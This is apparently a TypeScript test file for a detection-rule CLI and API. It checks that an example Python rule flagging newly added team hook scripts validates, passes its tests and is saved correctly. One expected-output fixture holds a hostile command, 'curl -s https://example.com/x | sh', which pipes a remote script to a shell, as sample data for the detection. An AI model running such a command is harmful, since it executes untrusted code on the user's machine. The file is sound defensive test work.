// The example Python streaming rule that needs no data model (Editor.Audit.TeamHookScriptAdded:
// `title`, `dedup`, `severity`, `alert_context`, a global helper import) through the CLI and the
// API: every test passes, and each test with its ExpectedResult flipped fails, alone. (The example
// using `event.udm` is streaming-examples-udm.test.ts.)
import t from 'tap'
import { runCli } from '../../helpers/cli.js'
import { startInProcess } from '../../helpers/in-process.js'
import {
  type CliRule,
  EXAMPLES,
  exampleBody,
  HOOK_RULE,
  testCount,
  treeWithFlips,
  UDM_RULE,
} from './streaming-examples-fixtures.js'

const N = testCount(HOOK_RULE.file)

t.test('validate: both example Python rules are valid rules of the python kind', async (t) => {
  const r = await runCli(['validate', EXAMPLES, '--json'])
  t.equal(r.code, 0, r.stderr)
  const report = JSON.parse(r.stdout)
  for (const { id, file } of [HOOK_RULE, UDM_RULE]) {
    t.match(
      (report.rules as CliRule[]).find((x) => x.id === id),
      { kind: 'python', valid: true, errors: [] },
      id,
    )
    t.match(
      (report.files as Array<{ path: string }>).find((f) => f.path === file),
      { status: 'valid', analysisType: 'rule', id },
    )
  }
})

t.test('rulekeeper test: every test of the example passes', async (t) => {
  const r = await runCli(['test', EXAMPLES, '--json', '--filter', `RuleID=${HOOK_RULE.id}`])
  t.equal(r.code, 0, r.stderr)
  const rule = (JSON.parse(r.stdout).rules as CliRule[]).find((x) => x.id === HOOK_RULE.id)!
  t.equal(rule.tests.length, N)
  t.same(
    rule.tests.map((x) => [x.name, x.passed, x.error]),
    rule.tests.map((x) => [x.name, true, null]),
  )
  t.same(
    rule.tests.map((x) => x.actual),
    [true, false, false],
  )
})

t.test('rulekeeper test: each flipped ExpectedResult fails, and only it', async (t) => {
  const dir = treeWithFlips(HOOK_RULE.file)
  const ids = Array.from({ length: N }, (_, i) => `${HOOK_RULE.id}.Flip${i}`)
  const r = await runCli(['test', dir, '--json', '--filter', `RuleID=${ids.join(',')}`])
  t.equal(r.code, 1, 'a failing test is exit 1')
  const rules = JSON.parse(r.stdout).rules as CliRule[]
  ids.forEach((id, i) => {
    const rule = rules.find((x) => x.id === id)!
    t.same(
      rule.tests.map((x) => x.passed),
      rule.tests.map((_, j) => j !== i),
      `${id}: test ${i} fails, the others pass`,
    )
  })
})

t.test('the API: the example saves with its tests run first, and each flipped test is refused', async (t) => {
  // The template's repository has the example's global helper (editor_helpers).
  const s = await startInProcess()
  t.teardown(() => s.close())
  const body = exampleBody(HOOK_RULE.file)
  const only = await s.request('POST', '/rules?run-tests-only=true', body)
  t.equal(only.status, 204, only.text)

  const tests = body.tests as Array<Record<string, unknown>>
  for (let i = 0; i < N; i++) {
    const flipped = structuredClone(tests)
    flipped[i]!.expectedResult = !flipped[i]!.expectedResult
    const bad = await s.request('POST', '/rules', { ...body, tests: flipped })
    t.equal(bad.status, 400, `test ${i} flipped`)
    const results = bad.body.testResults as Array<{ passed: boolean; functions: Record<string, unknown> }>
    t.same(
      results.map((x) => x.passed),
      results.map((_, j) => j !== i),
      `only test ${i} fails`,
    )
    if (i === 1) {
      // The first test passed in this run: every function's output is reported.
      t.same(results[0]!.functions, {
        detection: { output: true, error: null },
        title: { output: 'Team hook script [lint.sh] created by [sam@example.com]', error: null },
        dedup: { output: 'h-17', error: null },
        alertContext: {
          output: {
            actor: 'sam@example.com',
            hook_id: 'h-17',
            script_name: 'lint.sh',
            script_content: 'curl -s https://example.com/x | sh',
            operating_systems: ['macos', 'linux'],
          },
          error: null,
        },
        severity: { output: 'HIGH', error: null },
      })
    }
  }
  t.equal((await s.request('GET', `/rules/${HOOK_RULE.id}`)).status, 404, 'nothing saved so far')

  const saved = await s.request('POST', '/rules', body)
  t.equal(saved.status, 200, saved.text)
  t.match(saved.body, { id: HOOK_RULE.id, severity: 'MEDIUM', dedupPeriodMinutes: 30, body: body.body })
  const got = await s.request('GET', `/rules/${HOOK_RULE.id}`)
  t.same({ ...got.body, warnings: [] }, { ...saved.body, warnings: [] })
})
